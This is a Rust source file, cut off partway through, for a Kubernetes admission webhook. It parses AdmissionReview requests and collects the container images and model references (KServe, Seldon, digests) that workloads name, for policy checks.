//! AdmissionReview `admission.k8s.io/v1` as the API server sends and expects it, and what the
//! webhook reads from the reviewed object: every container it runs, every place it names a model.

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use std::collections::BTreeMap;
use std::fmt::Write as _;

pub const API_VERSION: &str = "admission.k8s.io/v1";
pub const KIND: &str = "AdmissionReview";
/// Annotation naming the model artifacts a workload runs: `sha256:<hex>`, comma-separated.
pub const MODEL_DIGEST_ANNOTATION: &str = "modelgate.dev/model-digest";
/// KServe's internal pod annotations naming the URI its storage initializer (or local model
/// cache) downloads; a Pod carrying one gets that model injected by KServe's pod webhook.
pub const KSERVE_SOURCE_URI_ANNOTATIONS: [&str; 2] = [
    "internal.serving.kserve.io/storage-initializer-sourceuri",
    "internal.serving.kserve.io/localmodel-sourceuri",
];

/// `metav1.GroupVersionKind`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct GroupVersionKind {
    #[serde(default)]
    pub group: String,
    pub version: String,
    pub kind: String,
}

/// `metav1.GroupVersionResource`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct GroupVersionResource {
    #[serde(default)]
    pub group: String,
    pub version: String,
    pub resource: String,
}

/// `authenticationv1.UserInfo`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct UserInfo {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub username: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub uid: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub groups: Option<Vec<String>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub extra: Option<BTreeMap<String, Vec<String>>>,
}

/// `admissionv1.AdmissionRequest`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct AdmissionRequest {
    pub uid: String,
    pub kind: GroupVersionKind,
    pub resource: GroupVersionResource,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sub_resource: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub request_kind: Option<GroupVersionKind>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub request_resource: Option<GroupVersionResource>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub request_sub_resource: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub namespace: Option<String>,
    /// CREATE, UPDATE, DELETE or CONNECT.
    pub operation: String,
    pub user_info: UserInfo,
    #[serde(default)]
    pub object: Option<Value>,
    #[serde(default)]
    pub old_object: Option<Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub dry_run: Option<bool>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub options: Option<Value>,
}

/// `metav1.Status`, as much of it as an admission response carries.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Status {
    /// `Success` or `Failure`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub status: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub message: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub code: Option<u16>,
}

/// `admissionv1.AdmissionResponse` (a validating webhook never patches).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct AdmissionResponse {
    pub uid: String,
    pub allowed: bool,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub status: Option<Status>,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub audit_annotations: BTreeMap<String, String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub warnings: Vec<String>,
}

impl AdmissionResponse {
    pub fn allow(uid: &str) -> Self {
        AdmissionResponse {
            uid: uid.to_string(),
            allowed: true,
            status: None,
            audit_annotations: BTreeMap::new(),
            warnings: Vec::new(),
        }
    }

    /// A refusal with HTTP-style `code` and `reason` (`Forbidden` 403, `Invalid` 400,
    /// `InternalError` 500).
    pub fn deny(uid: &str, code: u16, reason: &str, message: String) -> Self {
        AdmissionResponse {
            uid: uid.to_string(),
            allowed: false,
            status: Some(Status {
                status: Some("Failure".into()),
                message: Some(message),
                reason: Some(reason.into()),
                code: Some(code),
            }),
            audit_annotations: BTreeMap::new(),
            warnings: Vec::new(),
        }
    }

    /// The `invalid` answer: the review could not be read.
    pub fn invalid(uid: &str, message: String) -> Self {
        AdmissionResponse::deny(uid, 400, "Invalid", message)
    }

    /// The review the API server expects back.
    pub fn into_review(self) -> Value {
        serde_json::json!({"apiVersion": API_VERSION, "kind": KIND, "response": self})
    }
}

/// Why a body is not a review that can be answered; with the uid when one could be read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Malformed {
    pub uid: Option<String>,
    pub message: String,
}

/// Reads a request body as an AdmissionReview v1 request.
pub fn parse(body: &[u8]) -> Result<AdmissionRequest, Malformed> {
    let bad = |uid: Option<&str>, message: String| Malformed {
        uid: uid.map(str::to_string),
        message,
    };
    let doc: Value = serde_json::from_slice(body)
        .map_err(|e| bad(None, format!("the body is not JSON: {e}")))?;
    let uid = doc
        .pointer("/request/uid")
        .and_then(Value::as_str)
        .filter(|u| !u.is_empty());
    let api_version = doc.get("apiVersion").and_then(Value::as_str);
    if api_version != Some(API_VERSION) {
        return Err(bad(
            uid,
            format!("apiVersion is {api_version:?}, expected {API_VERSION:?}"),
        ));
    }
    let kind = doc.get("kind").and_then(Value::as_str);
    if kind != Some(KIND) {
        return Err(bad(uid, format!("kind is {kind:?}, expected {KIND:?}")));
    }
    let Some(request) = doc.get("request") else {
        return Err(bad(None, "the review has no request".into()));
    };
    if uid.is_none() {
        return Err(bad(None, "the request has no uid".into()));
    }
    serde_path_to_error::deserialize(request)
        .map_err(|e| bad(uid, format!("request.{}: {}", e.path(), e.inner())))
}

/// One container image.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Image {
    pub container: String,
    #[serde(rename = "ref")]
    pub reference: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub digest: Option<String>,
    pub pinned: bool,
}

/// A model artifact named by digest, whose decision records are looked up.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Model {
    /// `sha256:<64 lowercase hex>`.
    pub digest: String,
    /// `annotation`, or the `source` of the reference that carries the digest.
    pub source: String,
    #[serde(rename = "ref", skip_serializing_if = "Option::is_none")]
    pub reference: Option<String>,
}

/// A model digest that is not `sha256:<64 hex>`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct InvalidModel {
    pub source: String,
    pub value: String,
}

/// One place where the workload names a model, or may (env vars, args and parameters are
/// candidates the policy filters by its parameters).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Reference {
    /// Where in the object, as a readable path: `spec.predictor.model.storageUri`,
    /// `spec.template.spec.containers[serve].env[MODEL_URI]`,
    /// `spec.volumes[weights].image.reference` (list items by name, by index without one).
    pub source: String,
    /// What kind of place; see [`summarize`] for every value.
    pub via: String,
    /// The container that reads it (env, arg, storage-initializer, modelcar).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub container: Option<String>,
    /// The env var name for via `env`, the flag for via `arg` (`--model` of `--model=URI` or of
    /// `--model URI`), the parameter name for via `parameter`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    /// The value as written.
    #[serde(rename = "ref")]
    pub reference: String,
    /// URI scheme in lower case (`s3`, `gs`, `oci`, `hf`, `pvc`, `https`, ...); `storage` for a
    /// KServe storage spec; "" when the value is not a URI (a path, an HF model id, an image
    /// reference, a `valueFrom:` source, a plain word).
    pub scheme: String,
    /// A sha256 the reference carries, `sha256:<64 lowercase hex>`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub digest: Option<String>,
    /// `oci`: the `@sha256:` digest of an OCI reference (`oci://` or `oci+native://` URI, image
    /// volume, modelcar image), which the registry and runtime enforce; `claim`: a `sha256=`
    /// query parameter or fragment, or the digest of another `oci+<mode>://` URI, which nothing
    /// the webhook knows of enforces.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub digest_kind: Option<String>,
}

/// One container of a pod spec the object holds, with what a runtime verifier needs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ContainerInfo {
    pub name: String,
    /// `container`, `init` or `ephemeral`.
    pub role: String,
    #[serde(rename = "ref")]
    pub image: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub digest: Option<String>,
    pub command: Vec<String>,
    pub args: Vec<String>,
}

/// What the policy sees of the reviewed object (`input.request`).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Summary {
    pub uid: String,
    pub operation: String,
    pub kind: String,
    pub group: String,
    pub version: String,
    pub namespace: String,
    pub name: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub environment: Option<String>,
    pub dry_run: bool,
    pub labels: BTreeMap<String, String>,
    pub annotations: BTreeMap<String, String>,
    pub images: Vec<Image>,
    pub models: Vec<Model>,
    pub invalid_models: Vec<InvalidModel>,
    /// Every place the workload names a model (or may), in a fixed order: metadata first, then
    /// the object's fields (object keys in sorted order, list items in list order).
    pub references: Vec<Reference>,
    /// Every container of every pod spec the object holds.
    pub containers: Vec<ContainerInfo>,
    /// The first pod spec's `serviceAccountName` (or deprecated `serviceAccount`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub service_account: Option<String>,
    /// The object holds a pod spec or container, or is a model-serving kind.
    pub runs_containers: bool,
}

/// The kinds the webhook knows, by where their containers and models are.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Workload {
    /// `spec` is the pod spec.
    Pod,
    /// Deployments, StatefulSets, DaemonSets, ReplicaSets, Jobs, ReplicationControllers:
    /// `spec.template`.
    Template,
    /// A PodTemplate: `template`.
    PodTemplate,
    /// `spec.jobTemplate.spec.template`.
    CronJob,
    /// KServe InferenceService: v1beta1 components, and the KFServing `default`/`canary`
    /// endpoints.
    InferenceService,
    /// KServe TrainedModel: a model loaded into a running InferenceService.
    TrainedModel,
    /// KServe ServingRuntime and ClusterServingRuntime.
    ServingRuntime,
    /// KServe LLMInferenceService and LLMInferenceServiceConfig.
    LlmInferenceService,
    /// KServe LocalModelCache and LocalModelNamespaceCache: a model downloaded to nodes.
    LocalModelCache,
    /// KServe ClusterStorageContainer: the container that downloads models.
    StorageContainer,
    /// Seldon Core v2 Model.
    SeldonModel,
    /// Seldon Core v2 Server and ServerConfig: `spec.podSpec`.
    SeldonServer,
    /// Seldon Core v1 SeldonDeployment.
    SeldonDeployment,
}

const KSERVE: &str = "serving.kserve.io";
/// KServe's former API group (KFServing).
const KFSERVING: &str = "serving.kubeflow.org";

impl Workload {
    pub fn of(gvk: &GroupVersionKind) -> Option<Workload> {
        let w = match (gvk.group.as_str(), gvk.kind.as_str()) {
            ("", "Pod") => Workload::Pod,
            ("", "ReplicationController")
            | ("apps", "Deployment" | "StatefulSet" | "DaemonSet" | "ReplicaSet")
            | ("batch", "Job") => Workload::Template,
            ("", "PodTemplate") => Workload::PodTemplate,
            ("batch", "CronJob") => Workload::CronJob,
            (KSERVE | KFSERVING, "InferenceService") => Workload::InferenceService,
            (KSERVE | KFSERVING, "TrainedModel") => Workload::TrainedModel,
            (KSERVE, "ServingRuntime" | "ClusterServingRuntime") => Workload::ServingRuntime,
            (KSERVE, "LLMInferenceService" | "LLMInferenceServiceConfig") => {
                Workload::LlmInferenceService
            }
            (KSERVE, "LocalModelCache" | "LocalModelNamespaceCache") => Workload::LocalModelCache,
            (KSERVE, "ClusterStorageContainer") => Workload::StorageContainer,
            ("mlops.seldon.io", "Model") => Workload::SeldonModel,
            ("mlops.seldon.io", "Server" | "ServerConfig") => Workload::SeldonServer,
            ("machinelearning.seldon.io", "SeldonDeployment") => Workload::SeldonDeployment,
            _ => return None,
        };
        Some(w)
    }
}

/// Why an object could not be read.
pub type DecodeError = String;

/// Summarizes the object of `req` for the policy: its metadata, every container of every pod
/// spec it holds, and every model reference. `None` for DELETE and CONNECT (they start
/// nothing) and for kinds that hold no pod spec; an error for other operations, for a CREATE
/// or UPDATE without an object, and for a field of the wrong type where a reference could hide.
///
/// References (`via`, then the source path, `…` standing for the enclosing path):
/// - `env`: every container env var, `….containers[C].env[NAME]`; a `valueFrom` one as
///   `valueFrom:<kind>:<name>/<key>` (`configMapKeyRef`, `secretKeyRef`),
///   `valueFrom:fieldRef:<path>`, `valueFrom:resourceFieldRef:<container>/<resource>`,
///   `valueFrom:fileKeyRef:<volume>/<path>:<key>`.
/// - `env-from`: every `envFrom` source, `….containers[C].envFrom[I]`, value
///   `envFrom:configMapRef:<name>` or `envFrom:secretRef:<name>` (`name`: its prefix).
/// - `arg`: every `args`/`command` element holding `://`, `….containers[C].args[I]`: the element,
///   or the part after the first `=` of `--flag=URI`; a shell string is split at blanks and quotes.
///   Also lifecycle hooks, `….containers[C].lifecycle.postStart.exec.command[I]`.
/// - `storage-initializer`: the source arguments (even positions) of an init container named
///   `storage-initializer` (KServe) or `*-model-initializer` (Seldon), URIs or not.
/// - `modelcar`: the image of a container named `modelcar` or `modelcar-*` (KServe's injected
///   model sidecar), `….containers[C].image`.
/// - `image-volume`: `….volumes[V].image.reference`.
/// - `annotation`: KServe's `internal.serving.kserve.io/storage-initializer-sourceuri` and
///   `…/localmodel-sourceuri`, `metadata.annotations[KEY]` (or a pod template's).
/// - KServe InferenceService, every object-valued key of `spec` (and each item of `canary`, and
///   `default`/`canary` endpoints): `storageUri` (`spec.predictor.model.storageUri`; an
///   `oci://` one is a modelcar), `storageUris` (`spec.predictor.storageUris[I].uri`),
///   `storage` (`spec.predictor.pytorch.storage`, value `storage:<key>/<path>`), in the
///   component and in its model specs (`model`, framework keys, any object with a storage field
///   except `logger`); the model spec's own env/args as container `kserve-container`.
/// - `trained-model` (`spec.model.storageUri`), `local-model-cache` (`spec.sourceModelUri`),
///   `llm-model` (`spec.model.uri`), `lora-adapter` (`spec.model.lora.adapters[N].uri`).
/// - Seldon: `seldon-model` (v2 `spec.storageUri`), `seldon-graph`
///   (`spec.predictors[P].graph[.children[N]…].modelUri`), `seldon-explainer`
///   (`spec.predictors[P].explainer.modelUri`), `parameter` (`….parameters[NAME]`).
pub fn summarize(req: &AdmissionRequest) -> Result<Option<Summary>, DecodeError> {
    match req.operation.as_str() {
        "CREATE" | "UPDATE" => {}
        "DELETE" | "CONNECT" => return Ok(None),
        other => {
            return Err(format!(
                "operation {other:?} is none of CREATE, UPDATE, DELETE, CONNECT"
            ))
        }
    }
    let object = match req.object.as_ref() {
        None | Some(Value::Null) => {
            return Err(format!(
                "object: a {} request must carry the object",
                req.operation
            ))
        }
        Some(v) => v,
    };
    let Some(root) = object.as_object() else {
        return Err(format!(
            "object: expected an object, found {}",
            type_name(object)
        ));
    };
    let mut cx = Cx::default();
    match Workload::of(&req.kind) {
        Some(w) => {
            cx.runs = true;
            cx.workload(w, root)?;
        }
        None => {
            cx.visit(object)?;
            if !cx.runs {
                return Ok(None);
            }
        }
    }
    cx.path.clear();
    let mut metas = std::mem::take(&mut cx.metas);
    if let Some(m) = cx.object(root, "metadata")? {
        metas.insert(0, ("metadata".to_string(), m));
    }
    // Metadata first: the annotation's digests lead `models`, its references lead `references`.
    let walked = std::mem::take(&mut cx.references);
    let walked_models = std::mem::take(&mut cx.models);
    let mut s = Summary {
        uid: req.uid.clone(),
        operation: req.operation.clone(),
        kind: req.kind.kind.clone(),
        group: req.kind.group.clone(),
        version: req.kind.version.clone(),
        dry_run: req.dry_run.unwrap_or(false),
        ..Default::default()
    };
    for (i, (path, meta)) in metas.iter().enumerate() {
        cx.path.clear();
        cx.path.push_str(path);
        cx.meta(meta, i == 0, &mut s)?;
    }
    for m in walked_models {
        cx.push_model(m);
    }
    cx.references.extend(walked);
    // The request's name and namespace win; a generateName request may have an empty name.
    if let Some(n) = req.name.as_ref().filter(|n| !n.is_empty()) {
        s.name = n.clone();
    }
    if let Some(n) = req.namespace.as_ref().filter(|n| !n.is_empty()) {
        s.namespace = n.clone();
    }
    s.images = cx.images;
    s.models = cx.models;
    s.invalid_models = cx.invalid;
    s.references = cx.references;
    s.containers = cx.containers;
    s.service_account = cx.service_account;
    s.runs_containers = cx.runs;
    Ok(Some(s))
}

type Obj = Map<String, Value>;

/// How a reference's value is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Parse {
    /// A URI, or anything else (scheme "").
    Uri,
    /// An OCI image reference (`registry/repo[:tag][@sha256:…]`).
    Image,
    /// Not a location itself (a `valueFrom` source).
    Opaque,
    /// A KServe storage spec (`storage:<key>/<path>`).
    Storage,
}

const ROLE_CONTAINER: &str = "container";
const ROLE_INIT: &str = "init";
/// The container a KServe model spec configures.
const KSERVE_CONTAINER: &str = "kserve-container";
/// The components of an InferenceService (and of a KFServing endpoint), in key order.
const COMPONENTS: [&str; 3] = ["explainer", "predictor", "transformer"];
/// Keys of a KServe component whose object is a model spec even without a storage field.
const FRAMEWORKS: [&str; 17] = [
    "model",
    "sklearn",
    "xgboost",
    "tensorflow",
    "pytorch",
    "triton",
    "onnx",
    "huggingface",
    "pmml",
    "lightgbm",
    "paddle",
    "catboost",
    "tensorrt",
    "custom",
    "art",
    "alibi",
    "aix",
];
/// Keys of a KServe component whose object is never a model spec: `logger.storage` is where
/// request logs go, and labels and annotations may hold any key.
const NOT_MODEL_SPECS: [&str; 7] = [
    "logger",
    "labels",
    "annotations",
    "nodeSelector",
    "workerSpec",
    "batcher",
    "autoScaling",
];
/// Fields that make any other object of a KServe component a model spec.
const MODEL_FIELDS: [&str; 8] = [
    "storageUri",
    "storageUris",
    "storage",
    "container",
    "image",
    "env",
    "args",
    "command",
];

fn type_name(v: &Value) -> &'static str {
    match v {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "a list",
        Value::Object(_) => "an object",
    }
}

fn is_storage_initializer(container: &str) -> bool {
    container == "storage-initializer" || container.ends_with("-model-initializer")
}

fn is_modelcar(container: &str) -> bool {
    container == "modelcar" || container.starts_with("modelcar-")
}

/// A container list of objects: what a pod spec of a kind the webhook does not know looks like.
fn looks_like_pod_spec(o: &Obj) -> bool {
    match o.get("containers") {
        Some(Value::Array(a)) => !a.is_empty() && a.iter().all(Value::is_object),
        _ => false,
    }
}

/// The walk over one object: the readable path of the field at hand (pushed and truncated as
/// the walk goes, so a path is built once per reference, not per field), and what was found.
/// Everything is borrowed from the request until it goes into the summary.
#[derive(Default)]
struct Cx<'v> {
    path: String,
    metas: Vec<(String, &'v Obj)>,
    references: Vec<Reference>,
    containers: Vec<ContainerInfo>,
    images: Vec<Image>,
    models: Vec<Model>,
    invalid: Vec<InvalidModel>,
    service_account: Option<String>,
    runs: bool,
}

impl<'v> Cx<'v> {
    fn key(&mut self, key: &str) -> usize {
        let n = self.path.len();
        if n > 0 {
            self.path.push('.');
        }
        self.path.push_str(key);
        n
    }

    fn item(&mut self, name: &str, i: usize) -> usize {
        let n = self.path.len();
        if name.is_empty() {
            let _ = write!(self.path, "[{i}]");
        } else {
            self.path.push('[');
            self.path.push_str(name);
            self.path.push(']');
        }
        n
    }

    fn back(&mut self, n: usize) {
        self.path.truncate(n);
    }

    fn at(&self, key: &str) -> String {
        match (self.path.is_empty(), key.is_empty() || key.starts_with('[')) {
            (true, _) => key.to_string(),
            (false, true) => format!("{}{key}", self.path),
            (false, false) => format!("{}.{key}", self.path),
        }
    }

    fn wrong(&self, key: &str, expected: &str, found: &Value) -> DecodeError {
        format!(
            "object.{}: expected {expected}, found {}",
            self.at(key),
            type_name(found)
        )
    }

    fn string(&self, o: &'v Obj, key: &str) -> Result<Option<&'v str>, DecodeError> {
        match o.get(key) {
            None | Some(Value::Null) => Ok(None),
            Some(Value::String(s)) => Ok(Some(s.as_str())),
            Some(v) => Err(self.wrong(key, "a string", v)),
        }
    }

    fn object(&self, o: &'v Obj, key: &str) -> Result<Option<&'v Obj>, DecodeError> {
        match o.get(key) {
            None | Some(Value::Null) => Ok(None),
            Some(Value::Object(m)) => Ok(Some(m)),
            Some(v) => Err(self.wrong(key, "an object", v)),
        }
    }

    fn list(&self, o: &'v Obj, key: &str) -> Result<&'v [Value], DecodeError> {
        match o.get(key) {
            None | Some(Value::Null) => Ok(&[]),
            Some(Value::Array(a)) => Ok(a.as_slice()),
            Some(v) => Err(self.wrong(key, "a list", v)),
        }
    }

    fn strings(&self, o: &'v Obj, key: &str) -> Result<Vec<&'v str>, DecodeError> {
        self.list(o, key)?
            .iter()
            .enumerate()
            .map(|(i, v)| {
                v.as_str()
                    .ok_or_else(|| self.wrong(&format!("{key}[{i}]"), "a string", v))
            })
            .collect()
    }

    /// Enters item `i` of a list of objects: the path gets `[name]` (`[i]` without a name);
    /// returns the object, its name and the mark to go back to.
    fn enter(
        &mut self,
        v: &'v Value,
        i: usize,
        name_key: &str,
    ) -> Result<(&'v Obj, &'v str, usize), DecodeError> {
        let mark = self.item("", i);
        let o = v
            .as_object()
            .ok_or_else(|| self.wrong("", "an object", v))?;
        let name = if name_key.is_empty() {
            ""
        } else {
            self.string(o, name_key)?.unwrap_or("")
        };
        self.back(mark);
        self.item(name, i);
        Ok((o, name, mark))
    }

    fn push_model(&mut self, model: Model) {
        if !self.models.iter().any(|m| m.digest == model.digest) {
            self.models.push(model);
        }
    }

    /// A reference at the current path.
    fn reference(
        &mut self,
        via: &str,
        container: Option<&str>,
        name: Option<&str>,
        value: &str,
        parse: Parse,
    ) {
        let source = self.path.clone();
        let (scheme, carried) = match parse {
            Parse::Uri => uri_facts(value),
            Parse::Image => (
                String::new(),
                oci_digest(value).map(|r| r.map(|d| (d, DIGEST_OCI))),
            ),
            Parse::Opaque => (String::new(), None),
            Parse::Storage => ("storage".to_string(), None),
        };
        let (digest, digest_kind) = match carried {
            Some(Ok((d, kind))) => {
                self.push_model(Model {
                    digest: d.clone(),
                    source: source.clone(),
                    reference: Some(value.to_string()),
                });
                (Some(d), Some(kind.to_string()))
            }
            Some(Err(text)) => {
                self.invalid.push(InvalidModel {
                    source: source.clone(),
                    value: text,
                });
                (None, None)
            }
            None => (None, None),
        };
        self.references.push(Reference {
            source,
            via: via.to_string(),
            container: container.filter(|c| !c.is_empty()).map(str::to_string),
            name: name.filter(|n| !n.is_empty()).map(str::to_string),
            reference: value.to_string(),
            scheme,
            digest,
            digest_kind,
        });
    }

    /// A reference at `key` below the current path, when `o` has that string.
    fn reference_at(&mut self, o: &'v Obj, key: &str, via: &str) -> Result<(), DecodeError> {
        if let Some(value) = self.string(o, key)? {
            let n = self.key(key);
            self.reference(via, None, None, value, Parse::Uri);
            self.back(n);
        }
        Ok(())
    }

    /// One metadata: the object's own (`first`) names it; every one adds labels, annotations,
    /// annotated digests and KServe source-URI annotations.
    fn meta(&mut self, m: &'v Obj, first: bool, s: &mut Summary) -> Result<(), DecodeError> {
        if first {
            let name = match self.string(m, "name")? {
                Some(n) => Some(n),
                None => self.string(m, "generateName")?,
            };
            s.name = name.unwrap_or_default().to_string();
            s.namespace = self.string(m, "namespace")?.unwrap_or_default().to_string();
        }
        if let Some(labels) = self.object(m, "labels")? {
            for (k, v) in labels {
                let v = v
                    .as_str()
                    .ok_or_else(|| self.wrong(&format!("labels.{k}"), "a string", v))?;
                s.labels.entry(k.clone()).or_insert_with(|| v.to_string());
            }
        }
        let Some(annotations) = self.object(m, "annotations")? else {
            return Ok(());
        };
        for (k, v) in annotations {
            let v = v
                .as_str()
                .ok_or_else(|| self.wrong(&format!("annotations.{k}"), "a string", v))?;
            s.annotations
                .entry(k.clone())
                .or_insert_with(|| v.to_string());
            if k == MODEL_DIGEST_ANNOTATION {
                for part in v.split(',').map(str::trim).filter(|p| !p.is_empty()) {
                    match normalize_digest(part) {
                        Some(digest) => self.push_model(Model {
                            digest,
                            source: "annotation".into(),
                            reference: None,
                        }),
                        None => self.invalid.push(InvalidModel {
                            source: format!("annotation {MODEL_DIGEST_ANNOTATION}"),
                            value: part.to_string(),
                        }),
                    }
                }
            } else if KSERVE_SOURCE_URI_ANNOTATIONS.contains(&k.as_str()) {
                let n = self.key("annotations");
                self.item(k, 0);
                self.reference("annotation", None, None, v, Parse::Uri);
                self.back(n);
            }
        }
        Ok(())
    }

    fn workload(&mut self, w: Workload, o: &'v Obj) -> Result<(), DecodeError> {
        if w == Workload::PodTemplate {
            return self.pod_template(o, "template");
        }
        let Some(spec) = self.object(o, "spec")? else {
            return Ok(());
        };
        let n = self.key("spec");
        match w {
            Workload::Pod => self.pod_spec(spec)?,
            Workload::Template => self.pod_template(spec, "template")?,
            Workload::PodTemplate => {}
            Workload::CronJob => {
                if let Some(job) = self.object(spec, "jobTemplate")? {
                    let k = self.key("jobTemplate");
                    if let Some(m) = self.object(job, "metadata")? {
                        self.metas.push((self.at("metadata"), m));
                    }
                    if let Some(js) = self.object(job, "spec")? {
                        let j = self.key("spec");
                        self.pod_template(js, "template")?;
                        self.back(j);
                    }
                    self.back(k);
                }
            }
            Workload::InferenceService => self.inference_service(spec)?,
            Workload::TrainedModel => {
                if let Some(m) = self.object(spec, "model")? {
                    let k = self.key("model");
                    self.reference_at(m, "storageUri", "trained-model")?;
                    self.back(k);
                }
            }
            Workload::ServingRuntime => {
                self.pod_spec(spec)?;
                self.pod_specs_at(spec, &["workerSpec"])?;
                if let Some(adapter) = self.object(spec, "builtInAdapter")? {
                    let k = self.key("builtInAdapter");
                    self.env(adapter, None)?;
                    self.back(k);
                }
            }
            Workload::LlmInferenceService => self.llm_inference_service(spec)?,
            Workload::LocalModelCache => {
                self.reference_at(spec, "sourceModelUri", "local-model-cache")?
            }
            Workload::StorageContainer => {
                if let Some(c) = self.object(spec, "container")? {
                    let k = self.key("container");
                    let name = self
                        .string(c, "name")?
                        .filter(|s| !s.is_empty())
                        .unwrap_or("storage-initializer");
                    self.container(c, ROLE_INIT, name, true)?;
                    self.back(k);
                }
            }
            Workload::SeldonModel => {
                self.reference_at(spec, "storageUri", "seldon-model")?;
                self.parameters(spec)?;
            }
            Workload::SeldonServer => {
                self.pod_specs_at(spec, &["podSpec"])?;
                if let Some(overrides) = self.object(spec, "imageOverrides")? {
                    let k = self.key("imageOverrides");
                    for name in ["agent", "rclone"] {
                        if let Some(c) = self.object(overrides, name)? {
                            let j = self.key(name);
                            self.container(c, ROLE_CONTAINER, name, false)?;
                            self.back(j);
                        }
                    }
                    self.back(k);
                }
            }
            Workload::SeldonDeployment => self.seldon_deployment(spec)?,
        }
        self.back(n);
        Ok(())
    }

    /// `parent[key]` as a pod template: its metadata and its pod spec.
    fn pod_template(&mut self, parent: &'v Obj, key: &str) -> Result<(), DecodeError> {
        let Some(t) = self.object(parent, key)? else {
            return Ok(());
        };
        let n = self.key(key);
        if let Some(m) = self.object(t, "metadata")? {
            self.metas.push((self.at("metadata"), m));
        }
        self.pod_specs_at(t, &["spec"])?;
        self.back(n);
        Ok(())
    }

    fn pod_specs_at(&mut self, o: &'v Obj, keys: &[&str]) -> Result<(), DecodeError> {
        for key in keys {
            if let Some(spec) = self.object(o, key)? {
                let n = self.key(key);
                self.pod_spec(spec)?;
                self.back(n);
            }
        }
        Ok(())
    }

    fn pod_spec(&mut self, spec: &'v Obj) -> Result<(), DecodeError> {
        self.runs = true;
        let account = match self.string(spec, "serviceAccountName")? {
            Some(a) if !a.is_empty() => Some(a),
            _ => self.string(spec, "serviceAccount")?,
        };
        if self.service_account.is_none() {
            self.service_account = account.filter(|a| !a.is_empty()).map(str::to_string);
        }
        for (key, role) in [
            ("containers", ROLE_CONTAINER),
            ("initContainers", ROLE_INIT),
            ("ephemeralContainers", "ephemeral"),
        ] {
            let list = self.list(spec, key)?;
            let n = self.key(key);
            for (i, v) in list.iter().enumerate() {
                let (c, name, m) = self.enter(v, i, "name")?;
                self.container(c, role, name, true)?;
                self.back(m);
            }
            self.back(n);
        }
        let volumes = self.list(spec, "volumes")?;
        let n = self.key("volumes");
        for (i, v) in volumes.iter().enumerate() {
            let (volume, _, m) = self.enter(v, i, "name")?;
            // Kubernetes image volumes: the kubelet mounts that image's content.
            if let Some(image) = self.object(volume, "image")? {
                let k = self.key("image");
                if let Some(r) = self.string(image, "reference")? {
                    let j = self.key("reference");
                    self.reference("image-volume", None, None, r, Parse::Image);
                    self.back(j);
                }
                self.back(k);
            }
            self.back(m);
        }
        self.back(n);
        Ok(())
    }

    /// One container at the current path. `always`: listed even without an image (a pod spec's
    /// containers are; a KServe model spec, which configures a container, is only with one).
    fn container(
        &mut self,
        c: &'v Obj,
        role: &str,
        name: &str,
        always: bool,
    ) -> Result<(), DecodeError> {
        let image = self.string(c, "image")?.unwrap_or("");
        let command = self.strings(c, "command")?;
        let args = self.strings(c, "args")?;
        self.env(c, Some(name))?;
        self.env_from(c, name)?;
        if role == ROLE_INIT && is_storage_initializer(name) {
            // KServe's and Seldon's initializers take (source, destination) pairs, and download
            // every source, URI or not. A destination holding a URI is still found below.
            let n = self.key("args");
            for (i, a) in args.iter().enumerate().step_by(2) {
                let m = self.item("", i);
                self.reference("storage-initializer", Some(name), None, a, Parse::Uri);
                self.back(m);
            }
            self.back(n);
            self.args("args", &args, name, true);
        } else {
            self.args("args", &args, name, false);
        }
        self.args("command", &command, name, false);
        // Lifecycle hooks run commands in the container as well.
        if let Some(lifecycle) = self.object(c, "lifecycle")? {
            let n = self.key("lifecycle");
            for hook in ["postStart", "preStop"] {
                let Some(h) = self.object(lifecycle, hook)? else {
                    continue;
                };
                let k = self.key(hook);
